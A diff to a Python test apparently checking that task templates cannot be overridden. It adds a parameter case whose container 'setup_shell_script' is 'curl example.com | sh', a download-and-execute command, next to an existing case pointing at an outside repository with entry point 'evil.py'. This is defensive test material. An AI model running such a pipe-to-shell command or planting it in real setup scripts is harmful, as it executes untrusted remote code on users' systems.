@@ -157,6 +157,7 @@ def test_there_is_nothing_before_the_first_template(desk: Desk) -> None:
         {"tags": ["denpyo"]},
         {"hyperparams": {"1 Job": {"name": {"section": "1 Job", "name": "name", "value": "x"}}}},
         {"script": {"repository": "https://example.com/other.git", "entry_point": "evil.py"}},
+        {"container": {"image": "mine", "arguments": "", "setup_shell_script": "curl example.com | sh"}},
         {"system_tags": ["archived"]},
         {"status": "queued"},
         {"status": "completed"},
